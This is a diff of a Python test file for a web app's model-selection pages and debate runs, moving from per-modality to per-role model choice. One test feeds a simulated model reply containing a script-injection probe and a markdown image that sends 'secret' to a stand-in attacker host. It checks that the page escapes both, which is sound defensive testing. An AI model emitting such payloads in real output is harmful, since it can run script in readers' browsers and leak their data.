@@ -11,9 +11,12 @@ from wire.server import WireServer, say
 import builders
 from annotation import choosing_models
 from annotation.domain.words import Modality, Role
-from annotation.models import Event, Membership
+from annotation.models import Event, Item, Membership
+from moderation import debating
+from providers.roles import ModelRole
 from providers.wiring import NotConfigured
 from runs import pausing
+from runs.models import Run
 
 pytestmark = pytest.mark.django_db
 
@@ -69,7 +72,7 @@ def test_with_an_openai_key_alone_the_page_names_the_missing_settings(browser: C
 
 @pytest.mark.parametrize("modality", list(Modality))
 def test_one_call_tests_a_model_with_a_real_question(browser: Client, wire: WireServer, modality: Modality):
-    page = browser.post("/p/winter/models/try/", {"modality": modality})
+    page = browser.post("/p/winter/models/try/", {"role": f"prior_{modality}"})
     assert page.status_code == 200
     assert "It answers, in the right form" in page.content.decode()
     [heard] = wire.heard
@@ -90,7 +93,7 @@ def test_one_call_tests_a_model_with_a_real_question(browser: Client, wire: Wire
 )
 def test_a_test_that_fails_says_how_after_one_call(browser: Client, wire: WireServer, behaviour: str, sentence: str):
     wire.queue(behaviour)
-    page = browser.post("/p/winter/models/try/", {"modality": "text"}).content.decode()
+    page = browser.post("/p/winter/models/try/", {"role": "prior_text"}).content.decode()
     assert sentence in page
     assert "CANARY" not in page
     assert len(wire.heard) == 1
@@ -98,7 +101,7 @@ def test_a_test_that_fails_says_how_after_one_call(browser: Client, wire: WireSe
 
 def test_what_a_model_says_is_shown_as_text(browser: Client, wire: WireServer):
     wire.queue(say("<script>alert(1)</script> ![](http://evil.example/?d=secret)"))
-    page = browser.post("/p/winter/models/try/", {"modality": "text"}).content.decode()
+    page = browser.post("/p/winter/models/try/", {"role": "prior_text"}).content.decode()
     assert "<script>alert" not in page
     assert "&lt;script&gt;alert(1)" in page
     assert "<img" not in page.partition('id="tested"')[2].partition("</section>")[0]
@@ -111,12 +114,12 @@ def test_a_paused_provider_is_shown_with_its_reason(browser: Client, wire: WireS
     assert "insufficient_quota" in page
 
 
-def test_an_unknown_modality_is_refused(browser: Client):
-    assert browser.post("/p/winter/models/try/", {"modality": "smell"}).status_code == 422
+def test_an_unknown_role_is_refused(browser: Client):
+    assert browser.post("/p/winter/models/try/", {"role": "smell"}).status_code == 422
 
 
 def test_an_admin_chooses_among_the_models_of_the_site(browser: Client, wire: WireServer, admin: Membership):
-    answer = browser.post("/p/winter/models/choose/", {"text": "openai:small-7b", "image": ""})
+    answer = browser.post("/p/winter/models/choose/", {"prior_text": "openai:small-7b", "prior_image": ""})
     assert answer.status_code == 302
     admin.project.refresh_from_db()
     assert admin.project.model_plan == {"prior_text": "openai:small-7b"}
@@ -124,7 +127,7 @@ def test_an_admin_chooses_among_the_models_of_the_site(browser: Client, wire: Wi
     assert (event.actor_id, event.facts) == (admin.pk, {"models": {"prior_text": "openai:small-7b"}})
     page = browser.get("/p/winter/models/").content.decode()
     assert 'value="openai:small-7b"' in page
-    browser.post("/p/winter/models/choose/", {"text": "", "image": ""})
+    browser.post("/p/winter/models/choose/", {"prior_text": "", "prior_image": ""})
     admin.project.refresh_from_db()
     assert admin.project.model_plan == {}
 
@@ -133,7 +136,7 @@ def test_an_admin_chooses_among_the_models_of_the_site(browser: Client, wire: Wi
 def test_a_model_outside_the_list_is_refused_and_nothing_stored(
     browser: Client, wire: WireServer, admin: Membership, name: str
 ):
-    answer = browser.post("/p/winter/models/choose/", {"text": "openai:other", "image": name})
+    answer = browser.post("/p/winter/models/choose/", {"prior_text": "openai:other", "judge": name})
     assert answer.status_code == 422
     assert "MODEL_ALLOWED" in answer.content.decode()
     admin.project.refresh_from_db()
@@ -145,7 +148,7 @@ def test_a_model_that_cannot_be_asked_is_refused_with_the_missing_setting(
 ):
     settings.MODEL_ALLOWED = ["dashscope:*"]
     with pytest.raises(NotConfigured, match="DASHSCOPE_API_KEY is not set"):
-        choosing_models.choose(admin, {Modality.TEXT: "dashscope:qwen-plus"})
+        choosing_models.choose(admin, {ModelRole.PRIOR_TEXT: "dashscope:qwen-plus"})
 
 
 @pytest.mark.parametrize("role", [Role.ANNOTATOR, Role.REVIEWER])
@@ -181,7 +184,7 @@ def test_the_command_asks_nobody_when_told_so(wire: WireServer):
 
 
 def test_the_command_shows_a_projects_own_models(wire: WireServer, admin: Membership):
-    choosing_models.choose(admin, {Modality.IMAGE: "openai:other"})
+    choosing_models.choose(admin, {ModelRole.PRIOR_IMAGE: "openai:other"})
     _, value = check("--project", "winter")
     assert [model["model"] for model in value["models"]] == ["openai:wire-sensible", "openai:other"]
     assert [heard.model for heard in wire.heard] == ["wire-sensible", "other"]
@@ -190,3 +193,31 @@ def test_the_command_shows_a_projects_own_models(wire: WireServer, admin: Member
 def test_without_a_key_the_command_is_content(db: None):
     code, value = check()
     assert (code, [model["model"] for model in value["models"]]) == (0, ["keyword:cues-1"] * 2)
+
+
+def test_every_role_has_a_model_and_a_project_chooses_for_each(browser: Client, wire: WireServer, admin: Membership):
+    page = browser.get("/p/winter/models/").content.decode()
+    assert all(f'name="{role}"' in page for role in ModelRole)
+    chosen = {"judge": "openai:small-1", "counterspeaker": "openai:other"}
+    assert browser.post("/p/winter/models/choose/", chosen).status_code == 302
+    admin.project.refresh_from_db()
+    assert admin.project.model_plan == chosen
+    builders.make_item(admin.project, "Weeds.")
+    debating.start(admin.project, Item.objects.all(), debating.Wish("arcade"), ring=False)
+    assert Run.objects.get().model_plan["judge"] == "openai:small-1"
+    # A single run may choose otherwise, within the list.
+    debating.start(admin.project, Item.objects.all(), debating.Wish("arcade", judges=["openai:small-2"]), ring=False)
+    assert Run.objects.latest("id").model_plan["judge"] == "openai:small-2"
+
+
+def test_one_call_tests_the_model_of_any_role(browser: Client, wire: WireServer):
+    wire.queue(say("ready"), "401")
+    page = browser.post("/p/winter/models/try/", {"role": "critic"}).content.decode()
+    assert "It answers after" in page
+    assert "It does not answer" in browser.post("/p/winter/models/try/", {"role": "critic"}).content.decode()
+    assert len(wire.heard) == 2
+
+
+def test_the_command_shows_all_roles_when_told_so(wire: WireServer):
+    code, value = check("--all", "--no-call")
+    assert (code, [model["role"] for model in value["models"]]) == (0, list(ModelRole))
